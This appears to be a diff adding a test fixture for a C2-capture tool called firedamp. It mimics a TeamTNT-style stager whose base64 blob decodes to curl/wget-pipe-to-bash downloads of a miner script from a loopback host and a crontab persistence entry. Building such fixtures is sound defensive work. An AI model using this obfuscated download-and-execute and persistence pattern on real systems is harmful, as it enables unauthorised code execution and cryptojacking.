@@ -1,0 +1,5 @@
+#!/bin/bash
+# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics a TeamTNT-style
+# stager, a base64 blob decoded into a shell (src/tnt-payload.sh decoded). It is
+# served to capture clients and never executed.
+echo IyEvYmluL2Jhc2gKIyBJTkVSVCBURVNUIEZJWFRVUkUgZm9yIGZpcmVkYW1wOiB0aGUgZGVjb2RlZCBib2R5IG9mIGMyL3RudC5zaCdzIGJhc2U2NCBibG9iLgojIE5ldmVyIGV4ZWN1dGVkOyBhZGRyZXNzZXMgYXJlIGxvb3BiYWNrIG9yIGRvY3VtZW50YXRpb24gc3BhY2UuCmV4cG9ydCBQQVRIPSRQQVRIOi9iaW46L3Vzci9iaW46L3Vzci9sb2NhbC9iaW46L3Vzci9zYmluCkMyPWh0dHA6Ly8xMjcuMC4wLjY2CmlmIGNvbW1hbmQgLXYgY3VybCA+L2Rldi9udWxsOyB0aGVuCiAgICBjdXJsIC1zICRDMi94bXIuc2ggfCBiYXNoCmVsc2UKICAgIHdnZXQgLXEgLU8tICRDMi94bXIuc2ggfCBiYXNoCmZpCihjcm9udGFiIC1sIDI+L2Rldi9udWxsOyBlY2hvICIqLzMwICogKiAqICogY3VybCAtcyAkQzIvdG50LnNoIHwgYmFzaCIpIHwgY3JvbnRhYiAtCg== | base64 -d | bash
